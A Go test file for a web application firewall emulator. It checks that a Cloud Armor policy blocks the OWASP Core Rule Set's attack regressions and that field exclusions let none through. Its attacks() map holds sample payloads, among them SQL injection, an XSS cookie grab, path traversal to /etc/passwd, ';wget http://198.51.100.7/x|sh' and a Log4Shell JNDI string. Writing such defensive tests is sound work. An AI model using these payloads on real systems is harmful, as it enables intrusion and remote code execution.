package cloudarmor_test

import (
	"fmt"
	"io/fs"
	"net/http"
	"net/netip"
	"net/url"
	"path"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza-coreruleset/v4/tests"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"sigs.k8s.io/yaml"

	"github.com/coditect-ai/license-platform/armor/policy"
	"github.com/coditect-ai/license-platform/armor/rule"
	"github.com/coditect-ai/license-platform/emulator/cloudarmor"
)

// regression is one of the Core Rule Set's own regression tests: an attack and the
// rule that has to find it.
type regression struct {
	name    string
	rule    int
	request cloudarmor.Request
}

// regressions are the attacks that rules of paranoia level 1 have to find, of all
// sets that Cloud Armor offers.
func regressions(t testing.TB) []regression {
	t.Helper()
	levels := levelsOfRules(t)
	files, err := fs.Glob(tests.FS, "*/*.yaml")
	require.NoError(t, err)
	var all []regression
	for _, file := range files {
		number, err := strconv.Atoi(strings.TrimSuffix(path.Base(file), ".yaml"))
		if err != nil || levels[number] != 1 {
			continue
		}
		content, err := fs.ReadFile(tests.FS, file)
		require.NoError(t, err)
		var document struct {
			Tests []struct {
				ID     int `json:"test_id"`
				Stages []struct {
					Input struct {
						Method       string            `json:"method"`
						URI          string            `json:"uri"`
						Data         string            `json:"data"`
						Headers      map[string]string `json:"headers"`
						Autocomplete *bool             `json:"autocomplete_headers"`
						Encoded      string            `json:"encoded_request"`
					} `json:"input"`
					Output struct {
						Log struct {
							Expect []int `json:"expect_ids"`
						} `json:"log"`
					} `json:"output"`
				} `json:"stages"`
			} `json:"tests"`
		}
		require.NoError(t, yaml.Unmarshal(content, &document), file)
		for _, test := range document.Tests {
			for _, stage := range test.Stages {
				in := stage.Input
				if len(stage.Output.Log.Expect) == 0 || in.Encoded != "" {
					continue
				}
				headers := http.Header{}
				for name, value := range in.Headers {
					headers.Set(name, value)
				}
				if in.Data != "" && headers.Get("Content-Type") == "" && (in.Autocomplete == nil || *in.Autocomplete) {
					headers.Set("Content-Type", "application/x-www-form-urlencoded")
				}
				where, query, _ := strings.Cut(orElse(in.URI, "/"), "?")
				all = append(all, regression{
					name: fmt.Sprintf("%d-%d", number, test.ID), rule: number,
					request: cloudarmor.Request{
						Method: orElse(in.Method, "GET"), Scheme: "https", Host: licenseHost, Path: where, RawQuery: query, Headers: headers,
						Body: []byte(in.Data), ClientIP: netip.MustParseAddr("203.0.113.9"), Region: "DE",
					},
				})
			}
		}
	}
	return all
}

func orElse(text, otherwise string) string {
	if text == "" {
		return otherwise
	}
	return text
}

// levelsOfRules are the paranoia levels of the rules in the sets that Cloud Armor has.
func levelsOfRules(t testing.TB) map[int]int {
	t.Helper()
	levels := map[int]int{}
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/REQUEST-9*.conf")
	require.NoError(t, err)
	begins, level := regexp.MustCompile(`id:(9\d{5})`), regexp.MustCompile(`paranoia-level/(\d)`)
	for _, file := range files {
		switch prefix := strings.TrimPrefix(path.Base(file), "REQUEST-")[:3]; prefix {
		case "911", "913", "921", "930", "931", "932", "933", "934", "941", "942", "943", "944":
		default:
			continue
		}
		content, err := fs.ReadFile(coreruleset.FS, file)
		require.NoError(t, err)
		found := begins.FindAllStringSubmatchIndex(string(content), -1)
		for i, at := range found {
			end := len(content)
			if i+1 < len(found) {
				end = found[i+1][0]
			}
			number, err := strconv.Atoi(string(content[at[2]:at[3]]))
			require.NoError(t, err)
			if tag := level.FindStringSubmatch(string(content[at[0]:end])); tag != nil {
				levels[number], err = strconv.Atoi(tag[1])
				require.NoError(t, err)
			}
		}
	}
	return levels
}

func unlimited() policy.Settings {
	return policy.Settings{RateLimit: policy.RateLimit{Action: rule.Throttle, Count: 1_000_000}}
}

// TestTheDefaultPolicyRefusesTheAttacksOfTheCoreRuleSet is the recall of layer 1.
// All rules only log, so that each tells what it would have refused.
func TestTheDefaultPolicyRefusesTheAttacksOfTheCoreRuleSet(t *testing.T) {
	t.Parallel()
	settings := unlimited()
	settings.Preview = true
	bench, passed, byName := stand(t, settings), []string{}, 0
	all := regressions(t)
	for _, each := range all {
		refused, named := false, false
		for _, step := range bench.decide(t, each.request).Previews {
			refused = refused || step.Outcome == cloudarmor.Deny
			named = named || strings.Contains(strings.Join(step.Signatures, " "), fmt.Sprintf("id%d-", each.rule))
		}
		if !refused {
			passed = append(passed, each.name)
		}
		if named {
			byName++
		}
	}
	t.Logf("%d attacks at sensitivity 1: %d refused, %d of them by the signature that has to find them; passed: %v",
		len(all), len(all)-len(passed), byName, passed)
	assert.Greater(t, len(all), 1600)
	assert.Empty(t, passed)
	assert.GreaterOrEqual(t, byName*1000, len(all)*995, "nearly all by the signature that has to find them")
}

// attacks are payloads that stand-alone fields are refused for, one of each set.
func attacks() map[string]string {
	return map[string]string{
		"sqli": "x' UNION SELECT secret FROM keys -- ", "xss": "<script>alert(document.cookie)</script>", "lfi": "../../../../../etc/passwd",
		"rfi": "http://198.51.100.7/shell.php?", "rce": ";wget http://198.51.100.7/x|sh", "php": "<?php system('id'); ?>",
		"generic": "require('child_process').exec('id')", "java": "java.lang.Runtime.getRuntime().exec('id')",
		"protocolattack": "x\r\nSet-Cookie: admin=1", "json-sqli": `1 OR '{"a":1}'::jsonb @> '{"a":1}'::jsonb`, "cve": "${jndi:ldap://198.51.100.7/a}",
	}
}

// TestOnlyTheOpaqueFieldsGoUninspected sends each attack in an opaque field, where it
// is a name like any other, and in all other places.
func TestOnlyTheOpaqueFieldsGoUninspected(t *testing.T) {
	t.Parallel()
	bench := stand(t, unlimited())
	object := func(name, value string) string { return fmt.Sprintf(`{%q:%q}`, name, value) }
	for set, attack := range attacks() {
		for where, request := range map[string]cloudarmor.Request{
			"fingerprint of acquire": get(at("/v1/licenses/demo/acquire", ""), jsonBody(object("fingerprint", attack))),
			"fingerprint of borrow":  get(at("/v1/licenses/demo/borrow", ""), jsonBody(object("fingerprint", attack))),
			"product of create":      get(at("/v1/licenses", ""), jsonBody(object("product", attack))),
			"metadata of update":     get(at("/v1/licenses/demo/update", ""), jsonBody(`{"metadata":`+object("note", attack)+`}`)),
			"group of a reservation": get(at("/v1/licenses/demo/update", ""), jsonBody(`{"reservations":[`+object("group", attack)+`]}`)),
			"user of an export":      get(at("/v1/privacy/export", ""), jsonBody(object("user", attack))),
			"user of an erasure":     get(at("/v1/privacy/erase", ""), jsonBody(object("user", attack))),
			"name of a credential":   get(at("/v1/credentials", ""), jsonBody(object("name", attack))),
			"features of create":     get(at("/v1/licenses", ""), jsonBody(fmt.Sprintf(`{"features":["a",%q]}`, attack))),
		} {
			assert.Equal(t, set != "cve", bench.decide(t, request).Allowed(), "%s in the %s", set, where)
		}
		quoted := url.QueryEscape(attack)
		elsewhere := map[string]cloudarmor.Request{
			"another field":                         get(at("/v1/licenses/demo/acquire", ""), jsonBody(object("device", attack))),
			"a field that ends like it":             get(at("/v1/licenses/demo/acquire", ""), jsonBody(object("xfingerprint", attack))),
			"the field below another one":           get(at("/v1/licenses/demo/acquire", ""), jsonBody(`{"a":`+object("fingerprint", attack)+`}`)),
			"a group elsewhere":                     get(at("/v1/licenses/demo/suspend", ""), jsonBody(`{"reservations":[`+object("group", attack)+`]}`)),
			"metadata that is no object":            get(at("/v1/licenses", ""), jsonBody(object("metadata", attack))),
			"the field in the body of another call": get(at("/v1/licenses/demo/suspend", ""), jsonBody(object("fingerprint", attack))),
			"the id field of a licence":             get(at("/v1/licenses", ""), jsonBody(object("id", attack))),
			"the licences' field of a credential":   get(at("/v1/credentials", ""), jsonBody(fmt.Sprintf(`{"licenses":[%q]}`, attack))),
			"the cursor of an export":               get(at("/v1/privacy/export", ""), jsonBody(object("cursor", attack))),
			"the name at a revocation":              get(at("/v1/credentials/0b6f2f3e/revoke", ""), jsonBody(object("name", attack))),
			"the user at a revocation":              get(at("/v1/credentials/0b6f2f3e/revoke", ""), jsonBody(object("user", attack))),
			"the field in a body for another path":  get(at("/", ""), jsonBody(object("product", attack))),
			"the field in a body for a longer path": get(at("/v1/licenses/demo/acquire/x", ""), jsonBody(object("fingerprint", attack))),
			"the field's name in a query":           get(at("/health", "fingerprint="+quoted)),
			"the field's name in the call's query":  get(method("POST"), at("/v1/licenses/demo/acquire", "fingerprint="+quoted)),
			"the field in a body beside a query":    get(at("/v1/licenses/demo/acquire", "x=1"), jsonBody(object("fingerprint", attack))),
			"the field with another method":         get(jsonBody(object("fingerprint", attack)), at("/v1/licenses/demo/acquire", ""), method("GET")),
			"a form at another path":                get(at("/x", ""), body("application/x-www-form-urlencoded", "fingerprint="+quoted)),
			"a query":                               get(at("/v1/licenses", "cursor="+quoted)),
		}
		if set != "protocolattack" { // a line break ends a header
			elsewhere["the path"] = get(at("/v1/licenses/"+url.PathEscape(attack), ""))
			elsewhere["a header"] = get(with("X-Api-Version", attack))
			elsewhere["the user agent"] = get(with("User-Agent", attack))
			elsewhere["the referer"] = get(with("Referer", attack))
			elsewhere["a cookie"] = get(with("Cookie", "session="+quoted))
			elsewhere["an analytics script's cookie"] = get(with("Cookie", "mp_x="+quoted))
		}
		everything := unlimited()
		everything.WAF.InspectAll = true
		strict := stand(t, everything)
		for where, request := range elsewhere {
			before := strict.decide(t, request)
			assert.Equal(t, before.Allowed(), bench.decide(t, request).Allowed(), "%s in %s: rule %d without exclusions", set, where, before.Priority())
			if strings.Contains(where, "field") || strings.Contains(where, "query") {
				assert.False(t, before.Allowed(), "%s in %s", set, where)
			}
		}
	}
}

// TestNoAttackOfTheCoreRuleSetGainsByTheExclusions puts the payload of every
// regression test under the name of an opaque field, in a query and in the body of
// a call that has no such field, and into a cookie: as many are refused as without
// any exclusion, but for those that only JSON in SQL is found by, which is not looked for
// in cookies. With -short a quarter of them is tried.
func TestNoAttackOfTheCoreRuleSetGainsByTheExclusions(t *testing.T) {
	t.Parallel()
	everything := unlimited()
	everything.WAF.InspectAll = true
	excluding, strict := stand(t, unlimited()), stand(t, everything)
	step := 1
	if testing.Short() {
		step = 4
	}
	tried, unread, gained := 0, 0, []string{}
	for i, each := range regressions(t) {
		payload := each.request.RawQuery + string(each.request.Body)
		if payload == "" || i%step != 0 {
			continue
		}
		_, value, _ := strings.Cut(payload, "=")
		tried++
		for name, request := range map[string]cloudarmor.Request{
			"query":  get(at("/v1/licenses/demo/acquire", "fingerprint="+strings.ReplaceAll(value, "&", "%26"))),
			"body":   get(at("/v1/licenses/demo/suspend", ""), jsonBody(fmt.Sprintf(`{"product":%q}`, value))),
			"cookie": get(with("Cookie", "session="+value)),
		} {
			before := strict.decide(t, request)
			switch {
			case before.Allowed() || !excluding.decide(t, request).Allowed():
			case name == "cookie" && reflect.DeepEqual(before.Final.Signatures, []string{"owasp-crs-v042200-id942550-sqli"}):
				unread++
			default:
				gained = append(gained, each.name+" in the "+name)
			}
		}
	}
	t.Logf("%d attacks in a query, in a body and in a cookie; %d of those in a cookie are JSON in SQL", tried, unread)
	assert.Greater(t, tried, 1200/step)
	assert.LessOrEqual(t, unread, 21)
	assert.Empty(t, gained)
}

func TestTheDesignsOptOutsChangeNothingAtSensitivityOne(t *testing.T) {
	t.Parallel()
	built, err := policy.Build(policy.Settings{}, policy.Scope{Host: licenseHost})
	require.NoError(t, err)
	levels, seen := levelsOfRules(t), 0
	for _, each := range built.Rules {
		for _, id := range regexp.MustCompile(`id(9\d{5})-`).FindAllStringSubmatch(each.Match.Expression, -1) {
			number, err := strconv.Atoi(id[1])
			require.NoError(t, err)
			if strings.Contains(each.Match.Expression, "opt_out_rule_ids") && each.Priority < 4900 {
				seen++
				assert.Greater(t, levels[number], 1, "signature %d", number)
			}
		}
	}
	assert.Equal(t, 8, seen)
}
